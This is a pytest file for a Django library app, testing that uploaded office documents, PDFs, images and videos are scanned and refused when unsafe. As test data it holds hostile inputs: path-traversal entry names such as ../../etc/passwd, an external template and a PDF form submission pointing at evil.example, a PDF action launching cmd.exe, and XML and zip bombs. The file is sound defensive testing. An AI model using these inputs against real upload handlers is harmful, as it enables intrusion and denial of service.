"""Files of resources: taken for what is in them, refused in a sentence, handed over safely; and a scanner, where there is one."""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from pairpep.library import packages, pdfs, taking
from pairpep.library.packages import Refused
from tests.library import samples
from tests.library.resources.making import rows, send, shown, start, written


@pytest.fixture(autouse=True)
def uploads(tmp_path: Path, settings: Any) -> Path:
    settings.PAIRPEP_UPLOADS = tmp_path
    return tmp_path


def examine(name: str, body: bytes) -> taking.Taken:
    return taking.examine(SimpleUploadedFile(name, body), documents=True)


def refusal(name: str, body: bytes) -> str:
    with pytest.raises(Refused) as refused:
        examine(name, body)
    return str(refused.value)


def kept(edition: Any) -> list[Any]:
    from pairpep.library.resource_models import ResourceFile

    return rows(ResourceFile, edition_id=edition.pk)


# Documents of an office suite -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("ending", "main"), [("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml"), ("pptx", "ppt/presentation.xml")])
def test_a_document_is_known_by_what_it_holds(ending: str, main: str) -> None:
    found = examine(f"fiche.{ending}", samples.office(main)).found
    assert found.kind == "document" and found.endings == (ending,)
    other = "xlsx" if ending == "docx" else "docx"
    assert f".{other}" in refusal(f"fiche.{other}", samples.office(main))


def entry(name: str, body: bytes = b"x", **how: Any) -> bytes:
    """A document with one more entry, made as no office suite makes it."""
    packed = io.BytesIO(samples.office())
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as inside:
        info = zipfile.ZipInfo(name)
        for key, value in how.items():
            setattr(info, key, value)
        inside.writestr(info, body)
    return packed.getvalue()


def bomb() -> bytes:
    packed = io.BytesIO(samples.office())
    with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as inside:
        inside.writestr("word/media/image1.bmp", b"\x00" * 60_000_000)
    return packed.getvalue()


def locked() -> bytes:
    body = bytearray(samples.office())
    at = body.rfind(b"PK\x01\x02")
    body[at + 8] |= 1
    return bytes(body)


TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
BOMB = b'<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Types>&b;</Types>'
SCORM, H5P = {"imsmanifest.xml": b"<manifest/>", "index.html": b"<script>"}, {"h5p.json": b"{}", "content/content.json": b"{}"}


def packed(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as inside:
        for name, body in parts.items():
            inside.writestr(name, body)
    return made.getvalue()


@pytest.mark.abuse("AB-46", "AB-48")
@pytest.mark.parametrize(
    ("name", "body", "says"),
    [
        ("fiche.docx", b"MZ\x90\x00" + b"\x00" * 5000, "Ce que contient ce fichier n"),
        ("fiche.docx", samples.office(**{"word/vbaProject.bin": b"x"}), "macros"),
        ("fiche.docx", samples.office(**{"word/activeX/activeX1.xml": b"x"}), "macros"),
        ("fiche.docx", samples.office(**{"word/embeddings/oleObject1.bin": b"x"}), "macros"),
        ("fiche.docx", samples.office(**{"[Content_Types].xml": b"<Types>macroEnabled.main+xml</Types>"}), "macros"),
        ("fiche.docx", samples.office(**{"word/_rels/settings.xml.rels": TEMPLATE}), "ailleurs"),
        ("fiche.docx", samples.office(**{"[Content_Types].xml": BOMB}), "aucune suite bureautique"),
        ("fiche.docx", entry("../../etc/passwd"), "aucune suite bureautique"),
        ("fiche.docx", entry("/etc/passwd"), "aucune suite bureautique"),
        ("fiche.docx", entry("C:\\x.exe"), "aucune suite bureautique"),
        ("fiche.docx", entry("word/link", b"/etc/passwd", external_attr=0o120777 << 16), "aucune suite bureautique"),
        ("fiche.docx", locked(), "mot de passe"),
        ("fiche.docx", bomb(), "plus gros que le fichier"),
        ("fiche.docx", samples.office()[:-40], "abîmé"),
        ("fiche.docx", b"PK\x03\x04" + b"\x00" * 400, "abîmé"),
        ("photos.zip", packed({"photo.png": b"x"}), "pas un document"),
        ("module.zip", packed(SCORM), "SCORM ou H5P"),
        ("module.zip", packed({f"cours/{name}": body for name, body in SCORM.items()}), "SCORM ou H5P"),
        ("module.h5p", packed(H5P), "Faites une formation"),
        ("module.h5p", packed(H5P)[:-30], "abîmé"),
    ],
)  # fmt: skip
def test_what_is_not_taken_gets_a_sentence_and_loses_nothing(world: Any, uploads: Path, name: str, body: bytes, says: str) -> None:
    edition = start(world)
    answer = send(world, edition, name, body, lang="en", description_fr="Ce que j'avais écrit")
    said = answer.content.decode()
    assert answer.status_code == 200 and says in said and "Ce que j&#x27;avais écrit" in said
    assert kept(edition) == [] and not any(path.is_file() for path in uploads.rglob("*"))


@pytest.mark.abuse("AB-48")
def test_too_many_entries_are_not_even_listed() -> None:
    body = bytearray(samples.office())
    at = body.rfind(b"PK\x05\x06")
    body[at + 10 : at + 12] = struct.pack("<H", 60_000)
    assert "trop de choses" in refusal("fiche.docx", bytes(body)) or "too many" in refusal("fiche.docx", bytes(body)).lower()


def test_a_capsule_takes_no_document_of_an_office_suite() -> None:
    with pytest.raises(Refused):
        taking.examine(SimpleUploadedFile("fiche.docx", samples.office()))
    assert packages.is_zip(io.BytesIO(samples.office()))


# PDF --------------------------------------------------------------------------------------------------------------------------------------

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@pytest.mark.abuse("AB-48")
@pytest.mark.parametrize(
    ("body", "says"),
    [
        (samples.pdf(catalog=b"/OpenAction " + SCRIPT), "script"),
        (samples.pdf(catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more=(SCRIPT,)), "script"),
        (samples.pdf(page=b"/AA << /O " + SCRIPT + b" >>"), "script"),
        (samples.pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"), "script"),
        (samples.pdf(catalog=b"/AcroForm << /XFA [] /Fields [] >>"), "script"),
        (samples.pdf(more=(b"<< /S /SubmitForm /F (https://evil.example) >>",)), "script"),
        (samples.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"), "caché"),
        (samples.pdf(more=(b"<< /Type /Filespec /F (a.exe) /EF << /F 1 0 R >> >>",)), "caché"),
        (b"%PDF-1.7\nnothing that can be read\n%%EOF\n", "abîmé"),
        (samples.pdf().replace(b"/Count 1", b"/Count 9").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "abîmé"),
    ],
)
def test_a_pdf_that_does_more_than_show_is_not_taken(world: Any, body: bytes, says: str) -> None:
    edition = start(world)
    answer = send(world, edition, "fiche.pdf", body)
    assert answer.status_code == 200 and says in answer.content.decode() and kept(edition) == []


def test_to_open_at_a_page_is_no_harm_and_the_first_page_is_shown(world: Any, uploads: Path) -> None:
    edition = written(world)
    whole = samples.pdf(catalog=b"/OpenAction [3 0 R /Fit]")
    assert send(world, edition, "fiche.pdf", whole).status_code == 302
    (found,) = kept(edition)
    assert found.pages == 1 and found.preview
    answer = world.client("peer_a").get(f"/fr/library/enclosed/{found.pk}/preview/")
    assert answer.content.startswith(b"\x89PNG") and answer["Content-Type"] == "image/png"
    taken = world.client("peer_a").get(f"/fr/library/enclosed/{found.pk}/")
    assert taken["Content-Disposition"].startswith("attachment") and b"".join(taken) == whole
    for who in ("clinician_a", "coordinator", "family_a"):
        assert world.client(who).get(f"/fr/library/enclosed/{found.pk}/preview/").status_code == 404
        assert world.client(who).get(f"/fr/library/enclosed/{found.pk}/").status_code == 404


def test_the_other_process_may_not_take_all_of_the_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever goes wrong there, the file is refused here."""
    document = tmp_path / "a.pdf"
    document.write_bytes(samples.pdf())
    assert pdfs.look(document, tmp_path / "a.png") == pdfs.Looked("", 1, True)
    monkeypatch.setattr(pdfs, "SECONDS", -4.9)
    assert pdfs.look(document, tmp_path / "b.png").trouble == "broken"
    assert pdfs.look(tmp_path / "nothing.pdf", tmp_path / "c.png").trouble == "broken"


# Pictures, names, sizes -------------------------------------------------------------------------------------------------------------------


@pytest.mark.abuse("AB-48")
def test_a_picture_larger_than_any_screen_is_not_taken() -> None:
    huge = bytearray(samples.png())
    huge[16:24] = struct.pack(">II", 10_000, 10_000)
    assert "écran" in refusal("photo.png", bytes(huge)) or "screen" in refusal("photo.png", bytes(huge))


@pytest.mark.abuse("AB-48")
@pytest.mark.parametrize("name", ["../../../etc/cron.d/x.docx", "C:\\Windows\\x.docx", "a\u202exslx.docx", "..docx"])
def test_a_name_with_path_parts_goes_nowhere(world: Any, name: str) -> None:
    edition = start(world)
    assert send(world, edition, name, samples.office()).status_code == 302
    (found,) = kept(edition)
    assert not set(found.name) & set("/\\\u202e") and not found.name.startswith(".")


def test_a_film_that_is_too_large_is_dropped_as_it_comes_and_the_rest_is_read(world: Any, uploads: Path, settings: Any) -> None:
    settings.PAIRPEP_UPLOAD_LIMIT = 1_000_000
    edition = start(world)
    answer = send(world, edition, "film.mp4", samples.mp4() + b"\x00" * 4_000_000, description_fr="Ce que j'avais écrit")
    assert "dépasse 1 Mo" in answer.content.decode() and "Ce que j&#x27;avais écrit" in answer.content.decode()
    assert kept(edition) == [] and not any(path.is_file() for path in uploads.rglob("*"))


def test_a_film_waits_for_its_captions(world: Any) -> None:
    edition = written(world, kind="recording")
    assert send(world, edition, "film.mp4", samples.mp4()).status_code == 302
    world.client("peer_a").post(f"/fr/library/editions/{edition.pk}/propose/")
    assert "sous-titres" in world.client("peer_a").get(f"/fr/library/editions/{edition.pk}/").content.decode()
    assert send(world, edition, "mots.vtt", samples.vtt()).status_code == 302
    page = world.client("peer_a").get(f"/fr/library/editions/{edition.pk}/").content.decode()
    assert "<video" in page and "<track" in page and "Prête à être proposée" in page


@pytest.mark.abuse("AB-11")
def test_a_file_follows_its_edition(world: Any) -> None:
    edition = written(world, audience=["team_lead"])
    send(world, edition, "fiche.docx", samples.office())
    (found,) = kept(edition)
    world.client("peer_a").post(f"/fr/library/editions/{edition.pk}/propose/")
    world.client("coordinator").post(f"/fr/library/editions/{edition.pk}/show/")
    address = f"/fr/library/enclosed/{found.pk}/"
    assert {who: world.client(who).get(address).status_code for who in ("lead_a", "clinician_a")} == {"lead_a": 200, "clinician_a": 404}
    assert world.client("lead_a").get(address)["Content-Disposition"].startswith("attachment")
    world.client("coordinator").post(f"/fr/library/editions/{edition.pk}/withdraw/")
    assert world.client("lead_a").get(address).status_code == 404


# A scanner --------------------------------------------------------------------------------------------------------------------------------


@contextmanager
def clamd(line: socket.socket, answer: bytes) -> Iterator[list[bytes]]:
    """As much of ClamAV as a client sees: takes a stream in parts, and answers one line."""
    got: list[bytes] = []
    line.listen(1)

    def serve() -> None:
        asked, _address = line.accept()
        with asked, asked.makefile("rb") as said:
            assert said.read(10) == b"zINSTREAM\x00"
            while length := struct.unpack(">I", said.read(4))[0]:
                got.append(said.read(length))
            asked.sendall(answer + b"\x00")

    thread = threading.Thread(target=serve)
    thread.start()
    yield got
    thread.join(10)
    line.close()


@pytest.mark.parametrize(
    ("answer", "says"),
    [(b"stream: OK", ""), (b"stream: Eicar-Test-Signature FOUND", "nuisible"), (b"INSTREAM size limit exceeded. ERROR", "ne répond pas")],
)
def test_each_file_is_shown_to_the_scanner_before_it_is_kept(world: Any, settings: Any, uploads: Path, answer: bytes, says: str) -> None:
    edition, line = start(world), socket.socket(socket.AF_UNIX)
    line.bind(str(uploads / "clamd"))
    settings.PAIRPEP_CLAMAV = str(uploads / "clamd")
    body = samples.office(**{"word/media/image.bmp": bytes(range(256)) * 2000})
    with clamd(line, answer) as got:
        response = send(world, edition, "fiche.docx", body)
    assert b"".join(got) == body
    assert (response.status_code == 302) is (not says) and says in response.content.decode()
    assert len(kept(edition)) == (not says)


def test_a_scanner_that_does_not_answer_lets_nothing_in(world: Any, settings: Any, uploads: Path) -> None:
    edition = start(world)
    for where in (str(uploads / "nobody"), "nowhere", "127.0.0.1:notaport"):
        settings.PAIRPEP_CLAMAV = where
        answer = send(world, edition, "fiche.docx", samples.office())
        assert answer.status_code == 200 and "ne répond pas" in answer.content.decode(), where
    assert kept(edition) == []


def test_the_scanner_is_reached_over_the_network_too(settings: Any) -> None:
    from pairpep.library import scanning

    line = socket.socket()
    line.bind(("127.0.0.1", 0))
    settings.PAIRPEP_CLAMAV = f"127.0.0.1:{line.getsockname()[1]}"
    with clamd(line, b"stream: OK") as got:
        scanning.scan(io.BytesIO(b"hello"))
    assert got == [b"hello"]


def test_what_was_shown_keeps_its_files(world: Any) -> None:
    edition = shown(world)
    assert send(world, edition, "fiche.docx", samples.office()).status_code == 404
